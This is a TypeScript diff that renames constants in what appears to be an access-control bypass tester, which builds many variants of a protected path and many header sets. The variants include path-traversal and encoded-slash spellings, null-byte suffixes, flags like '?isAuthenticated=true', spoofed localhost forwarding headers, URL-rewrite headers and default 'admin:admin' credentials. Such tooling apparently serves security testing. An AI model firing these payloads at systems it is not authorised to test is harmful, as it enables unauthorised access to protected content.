@@ -1,10 +1,10 @@
 import type { RawRequest } from "./raw-client.ts";
 
 const SLASHES = "%2f %2F %252f %5c \\ // /// /./ /%2e/ /x/../ /x/%2e%2e/ %c0%af".split(" ");
-const STARTS = "/ \\ %2f . %2e /%2e x/.. x/%2e%2e x%2f.. ..;".split(" ");
+const PREFIXES = "/ \\ %2f . %2e /%2e x/.. x/%2e%2e x%2f.. ..;".split(" ");
 const FOLDERS = "assets media .content/media locked %61ssets api".split(" ");
-const UPWARDS = "/../ /%2e%2e/ /..%2f /..%5c /%252e%252e/".split(" ");
-const ENDS = [
+const PARENT_PATHS = "/../ /%2e%2e/ /..%2f /..%5c /%252e%252e/".split(" ");
+const SUFFIXES = [
   "/ // /. /.. /%2e . .. %2e %20 %00 %00.png %0a %09 ; ;.css #x",
   "/index.html .html .json .data .data/ /_.data .map .br .gz .bak ~",
   "? ?index ?_routes= ?unlocked=true ?isAuthenticated=true ?download ?preview=1 ?draft ?admin ?debug ?print",
@@ -23,9 +23,9 @@ export function spellings(path: string): string[] {
     `/%${firstHexCode.toUpperCase()}${nameAfterFirst}`,
     `/${Array.from(name, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join("")}`,
     ...SLASHES.map((slash) => path.replaceAll(/(?<!^)\//g, slash)),
-    ...STARTS.map((start) => `/${start}/${name}`),
-    ...FOLDERS.flatMap((folder) => UPWARDS.map((upwards) => `/${folder}${upwards}${name}`)),
-    ...ENDS.map((end) => path + end),
+    ...PREFIXES.map((start) => `/${start}/${name}`),
+    ...FOLDERS.flatMap((folder) => PARENT_PATHS.map((parentPath) => `/${folder}${parentPath}${name}`)),
+    ...SUFFIXES.map((end) => path + end),
     `http://127.0.0.1${path}`,
     `http://other.example${path}`,
   ];
@@ -54,8 +54,10 @@ function formRequest(body: string): BypassAttempt {
 
 const METHODS = "GET HEAD POST PUT PATCH DELETE OPTIONS PROPFIND SEARCH".split(" ");
 const RANGES = "0- 0-4095 4096-8191 -1 -4096 0-0,2-3 99999999999-".split(" ");
-const FORWARDED = "X-Forwarded-For X-Real-IP CF-Connecting-IP True-Client-IP Forwarded".split(" ");
-const TYPES = "*/* application/json text/x-script text/markdown image/avif text/x-component".split(" ");
+const FORWARDING_HEADERS = "X-Forwarded-For X-Real-IP CF-Connecting-IP True-Client-IP Forwarded".split(" ");
+const ACCEPT_VALUES = "*/* application/json text/x-script text/markdown image/avif text/x-component".split(
+  " ",
+);
 /** These user agents belong to search engines and link previews. */
 const AGENTS =
   "Googlebot/2.1 Slackbot-LinkExpanding LinkedInBot/1.0 WhatsApp/2.23 facebookexternalhit/1.1".split(" ");
@@ -69,14 +71,14 @@ const HEADERS: RawRequest["headers"][] = [
   { Host: "other.example" },
   { "X-Forwarded-Host": "localhost" },
   { "X-Forwarded-Proto": "https" },
-  ...FORWARDED.map((name) => ({ [name]: "127.0.0.1" })),
+  ...FORWARDING_HEADERS.map((name) => ({ [name]: "127.0.0.1" })),
   ...["X-Original-URL", "X-Rewrite-URL"].map((name) => ({ [name]: "/" })),
   { "X-HTTP-Method-Override": "GET", "X-Method-Override": "HEAD" },
   { "X-React-Router-SPA-Mode": "yes" },
   { "X-React-Router-Prerender-Data": "%5B%5D" },
   { "X-React-Router-Request": "yes", RSC: "1" },
   { Purpose: "prefetch", "Sec-Purpose": "prefetch;prerender" },
-  ...TYPES.map((Accept) => ({ Accept })),
+  ...ACCEPT_VALUES.map((Accept) => ({ Accept })),
   ...["gzip", "br", "zstd", "identity;q=0"].map((encoding) => ({ "Accept-Encoding": encoding })),
   { Authorization: "Bearer true" },
   { Authorization: `Basic ${Buffer.from("admin:admin").toString("base64")}` },
